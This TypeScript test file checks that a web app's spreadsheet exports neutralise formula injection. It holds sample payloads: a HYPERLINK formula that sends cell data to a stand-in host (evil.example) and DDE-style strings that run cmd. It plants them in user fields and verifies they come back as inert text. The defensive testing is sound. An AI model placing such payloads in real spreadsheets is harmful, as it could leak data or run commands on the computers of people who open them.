import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fileCall } from '../../../test/file-call';
import type { TestApp } from '../../../test/harness';
import { abilityDraft } from '../../../test/support/draft-instruments';
import { startAppAs } from '../../../test/support/module-setup';
import { addFirstCompetence, addParticipant } from '../../../test/support/test-fixtures';
import { workbookOf } from '../../../test/support/workbooks';
import { demoCorporateProject } from '../../../test/tenants';
import { nowIso } from '../../lib/clock';

// Injection: spreadsheet formula injection neutralised in EVERY export. Each text the
// exports write that a user can type (names, phones, cities, e-mails, project, corporate and
// competence names) holds a formula payload, each export the app offers is downloaded and read
// back, and no cell of any sheet may be a formula or text starting with a trigger character:
// the payloads must come back as text with a leading apostrophe. The app writes no CSV.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

let t: TestApp;
let consultant: string;
let project: Awaited<ReturnType<typeof demoCorporateProject>>;

beforeAll(async () => {
  [t, consultant] = await startAppAs('consultant');
  project = await demoCorporateProject(t, PAYLOADS[0]);
  const ids: number[] = [];
  for (const [i, payload] of PAYLOADS.entries()) {
    const id = await addParticipant(t, project, { name: payload, email: `formula${i}@example.com` });
    await t.deps.db
      .updateTable('participants')
      .set({ phone: PAYLOADS[(i + 1) % PAYLOADS.length], city: PAYLOADS[(i + 2) % PAYLOADS.length] })
      .where('id', '=', id)
      .execute();
    ids.push(id);
  }
  await t.deps.db
    .updateTable('corporate_accounts')
    .set({ name: PAYLOADS[2] })
    .where('id', '=', project.account_corporate_id)
    .execute();
  // A competence of the project: its name heads the export's competence columns.
  const competence = await addFirstCompetence(t, project.id);
  await t.deps.db
    .updateTable('competences')
    .set({ name: PAYLOADS[3] })
    .where('id', '=', competence.id)
    .execute();
  // The participants export's instrument sheets: an instrument name (the sheet's name), a dimension
  // name (its headers), behaviour band labels and competence level labels (cells) as typed.
  await t.deps.db
    .updateTable('test_dimensions')
    .set({ name: PAYLOADS[0] })
    .where('code', '=', 'GENERAL-REASONING')
    .execute();
  const firstInstrument = await t.deps.db
    .selectFrom('project_instruments')
    .select('instrument_id')
    .where('project_id', '=', project.id)
    .orderBy('position')
    .executeTakeFirstOrThrow();
  await t.deps.db
    .updateTable('instruments')
    .set({ name: PAYLOADS[1] })
    .where('id', '=', firstInstrument.instrument_id)
    .execute();
  // The export is in English, which names the instrument by its English translation: typed too.
  await t.callOk(
    'instruments/translation',
    { id: firstInstrument.instrument_id, language: 'en', texts: { name: PAYLOADS[1] } },
    await t.signIn('admin'),
  );
  // A stored result of the first instrument whose band label is a payload.
  const submission = await t.deps.db
    .selectFrom('submissions as s')
    .innerJoin('project_instruments as pi', 'pi.id', 's.project_instrument_id')
    .select(['s.id', 'pi.instrument_version_id'])
    .where('s.participant_id', '=', ids[0])
    .where('pi.instrument_id', '=', firstInstrument.instrument_id)
    .executeTakeFirstOrThrow();
  const band = { level: PAYLOADS[2], label: PAYLOADS[2], description: '', colour: null };
  await t.deps.db
    .insertInto('results')
    .values({
      participant_id: ids[0],
      submission_id: submission.id,
      instrument_version_id: submission.instrument_version_id,
      engine_version: 'test',
      number_correct: 1,
      max_score: 8,
      result_json: JSON.stringify({
        dimensions: { 'GENERAL-REASONING': { raw: 1, scaled: null, band } },
        groupDimensions: {},
      }),
      created_at: nowIso(),
      blueprint_id: null,
      blueprint_version: null,
      norm_versions_json: null,
    })
    .execute();
  await t.deps.db
    .updateTable('participants')
    .set({
      competences_json: JSON.stringify([
        { competence_id: competence.id, score: 4, level: 2, label: PAYLOADS[1] },
      ]),
    })
    .where('id', '=', ids[0])
    .execute();
  // Access codes used with e-mails that are formulas.
  const generated = await t.callOk(
    'unique-codes/generate',
    { project_id: project.id, count: PAYLOADS.length },
    consultant,
  );
  for (const [i, code] of (generated.codes as string[]).entries())
    await t.deps.db
      .updateTable('unique_codes')
      .set({ participant_id: ids[i], used_email: PAYLOADS[i], used_at: new Date().toISOString() })
      .where('code', '=', code)
      .execute();
});
afterAll(() => t.close());

/** Every cell of every sheet: its address, type and value. */
async function cellsOf(bytes: Buffer) {
  const workbook = await workbookOf(bytes);
  const cells: { sheet: number; where: string; type: ExcelJS.ValueType; value: unknown }[] = [];
  for (const [n, sheet] of workbook.worksheets.entries())
    sheet.eachRow((row) =>
      row.eachCell((cell) =>
        cells.push({ sheet: n, where: `${sheet.name}!${cell.address}`, type: cell.type, value: cell.value }),
      ),
    );
  return cells;
}

async function expectNeutralised(bytes: Buffer, expectedPayloads: string[]) {
  const cells = await cellsOf(bytes);
  expect(cells.length).toBeGreaterThan(0);
  const unsafe = cells.filter(
    (c) =>
      c.type === ExcelJS.ValueType.Formula || (typeof c.value === 'string' && TRIGGERS.includes(c.value[0])),
  );
  expect(unsafe.map((c) => `${c.where}: ${JSON.stringify(c.value)}`)).toEqual([]);
  // The payloads did reach the file, as inert text.
  const texts = new Set(cells.map((c) => c.value));
  // (A carriage return comes back from the file's XML as a line feed.)
  for (const payload of expectedPayloads)
    expect(
      texts.has(`'${payload}`) || texts.has(`'${payload.replaceAll('\r', '\n')}`),
      `${JSON.stringify(payload)} is in the file with a leading apostrophe`,
    ).toBe(true);
}

async function downloaded(started: { download_id: number }) {
  await t.deps.jobs.drain();
  const file = await fileCall(t, 'downloads/file', { download_id: started.download_id }, consultant);
  expect(file.status).toBe(200);
  return file.bytes;
}

describe('formula injection in exports', () => {
  it('participants export (names, phones, cities, competence and dimension headers, band and level labels)', async () => {
    const started = await t.callOk('projects/participants/export', { project_id: project.id }, consultant);
    const bytes = await downloaded(started);
    await expectNeutralised(bytes, PAYLOADS);
    const cells = await cellsOf(bytes);
    const texts = (sheet: number) =>
      new Set(cells.filter((c) => c.sheet === sheet).map((c) => c.value as unknown));
    expect(texts(0).has(`'${PAYLOADS[1]}`), 'competence level label').toBe(true);
    expect(texts(1).has(`'${PAYLOADS[0]} raw`), 'dimension header').toBe(true);
    expect(texts(1).has(`'${PAYLOADS[2]}`), 'band label').toBe(true);
    // The instrument's name heads its sheet without the characters Excel forbids in sheet names.
    const workbook = await workbookOf(bytes);
    expect(workbook.worksheets[1].name).toBe("+cmd|' C calc'!A0");
  });

  it('candidates export (names, phones, cities, corporate)', async () => {
    const started = await t.callOk('candidates/export', {}, consultant);
    await expectNeutralised(await downloaded(started), PAYLOADS);
  });

  it('access codes export (e-mails the codes were used with)', async () => {
    const file = await fileCall(t, 'unique-codes/export', { project_id: project.id }, consultant);
    expect(file.status).toBe(200);
    await expectNeutralised(file.bytes, PAYLOADS);
  });

  it('item bank export (section titles, stems, option texts)', async () => {
    const admin = await t.signIn('admin');
    // Texts are trimmed when saved, so the payloads that start with a tab or a return cannot be typed here.
    const { id } = await abilityDraft(t, admin, { code: 'FORMULA-BANK', name: 'Formula bank' }, [
      {
        title: PAYLOADS[1],
        items: [
          {
            type: 'single',
            stem: PAYLOADS[0],
            options: [
              { id: 'A', text: PAYLOADS[2] },
              { id: 'B', text: PAYLOADS[3] },
            ],
            key: 'A',
          },
        ],
      },
    ]);
    const file = await fileCall(t, 'instruments/items/export-xlsx', { id }, admin);
    expect(file.status).toBe(200);
    await expectNeutralised(file.bytes, PAYLOADS.slice(0, 4));
  });

  it('bulk invitation template (project name)', async () => {
    const file = await fileCall(
      t,
      'projects/invitations/bulk-template',
      { project_id: project.id },
      consultant,
    );
    expect(file.status).toBe(200);
    await expectNeutralised(file.bytes, [PAYLOADS[0]]);
  });
});
